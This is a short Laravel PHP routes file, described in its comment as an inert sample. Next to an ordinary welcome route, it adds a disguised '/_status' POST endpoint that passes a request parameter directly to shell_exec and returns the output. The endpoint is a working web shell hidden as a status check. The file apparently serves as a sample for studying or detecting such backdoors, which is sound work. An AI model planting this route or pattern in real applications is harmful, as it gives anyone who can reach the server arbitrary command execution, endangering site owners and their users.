<?php
// inert sample: a status route added to an application's routes file; the request helper hands
// the command to the shell
use Illuminate\Support\Facades\Route;

Route::get('/', function () {
    return view('welcome');
});

Route::post('/_status', function () {
    $probe = request('probe', 'uptime');
    return response('<pre>' . shell_exec($probe) . '</pre>');
});
